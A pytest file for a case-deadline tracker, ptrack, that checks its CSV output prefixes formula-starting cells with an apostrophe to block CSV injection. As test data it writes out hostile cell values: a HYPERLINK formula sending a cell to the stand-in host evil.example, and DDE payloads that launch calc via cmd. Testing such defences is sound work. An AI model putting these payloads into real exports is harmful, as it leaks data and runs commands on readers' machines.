"""Issue 10, item 6: CSV output neutralises formula cells (OWASP "CSV injection"), through the installed `ptrack`.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice and
Google Sheets: a case id `=HYPERLINK("http://evil.example/?"&A1,"open")` would send the next cell to a stranger.
Such a text cell comes out with a leading `'`; numbers ptrack computes (days overdue, working days left) stay
numbers, and dates are ISO dates, never touched."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest

from ptrack.cli.output import csv_cell
from tests.cli.test_cli_commands import Ptrack
from tests.hostile.hostile_out import AS_OF, load

FORMULAS = {  # case id -> initials, team: every formula start OWASP names, in every text column
    '=HYPERLINK("http://evil.example/?"&A1,"open")': ("=1+1", "@SUM(A1)"),
    "+44 20 7946 0000": ("-AB", "+Team"),
    "-2+3+cmd|' /C calc'!A0": ("@A", "=Team"),
    "@SUM(1+1)*cmd|' /C calc'!A0": ("AB", "Team A"),
}  # a leading tab or carriage return never gets this far: the importer strips the blanks around a value
OVERDUE_DAYS = (date(2026, 11, 25) - date(2025, 1, 21)).days  # first review due Tue 21 Jan 2025


def neutral(text: str) -> str:
    """What OWASP advises a formula cell becomes."""
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture(scope="module")
def loaded(tmp_path_factory: pytest.TempPathFactory) -> Ptrack:
    ptrack = Ptrack(tmp_path_factory.mktemp("formulas"))
    load(ptrack, [(case, initials, team) for case, (initials, team) in FORMULAS.items()])
    return ptrack


def test_deadlines_csv_neutralises_formula_cells(loaded: Ptrack) -> None:
    out = rows(loaded("--as-of", AS_OF, "deadlines", "--status", "overdue", "--format", "csv").stdout)
    first = {r["case_id"]: r for r in out if r["rule_id"] == "cla_review_first"}
    assert set(first) == {neutral(case) for case in FORMULAS}
    for case in FORMULAS:
        row = first[neutral(case)]
        assert (row["due"], row["last_working_day"], row["anchor_date"]) == ("2025-01-21", "2025-01-21",
                                                                             "2024-12-19")
    for row in out:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), f"{column}: live formula {value!r}"


def test_digest_csv_neutralises_text_and_keeps_days_a_number(loaded: Ptrack) -> None:
    out = rows(loaded("--as-of", AS_OF, "digest", "--format", "csv").stdout)
    by_case = {r["case_id"]: r for r in out if r["rule_id"] == "cla_review_first"}
    assert set(by_case) == {neutral(case) for case in FORMULAS}
    for case, (initials, team) in FORMULAS.items():
        row = by_case[neutral(case)]
        assert (row["initials"], row["team"], row["bucket"]) == (neutral(initials), neutral(team), "overdue")
        assert row["days"] == str(OVERDUE_DAYS) and row["due"] == "2025-01-21"


def test_dispute_list_csv_neutralises_the_case_id(tmp_path: Path) -> None:
    ptrack = Ptrack(tmp_path)
    case = "=cmd|' /C calc'!A0"
    load(ptrack, [(case, "AB", "Team A")])
    ptrack("--as-of", AS_OF, "dispute", "open", case, "--issue", "care plan not reviewed")
    out = rows(ptrack("--as-of", AS_OF, "dispute", "list", "--format", "csv").stdout)
    assert [r["case_id"] for r in out] == [neutral(case)]
    assert out[0]["stage_due"] == "2026-12-02"  # 5 working days from Wed 25 Nov 2026
    assert out[0]["stage_working_days_left"] == "5"


def test_a_cell_starting_with_a_tab_or_carriage_return_is_neutralised_and_numbers_are_not() -> None:
    assert [csv_cell(v) for v in ("\t=1+1", "\r=1+1", "-", "A-1", "2025-01-21", None)] == [
        "'\t=1+1", "'\r=1+1", "'-", "A-1", "2025-01-21", ""]
    assert [csv_cell(v) for v in (-3, 0, 2.5, -0.5)] == ["-3", "0", "2.5", "-0.5"]  # computed numbers stay numbers
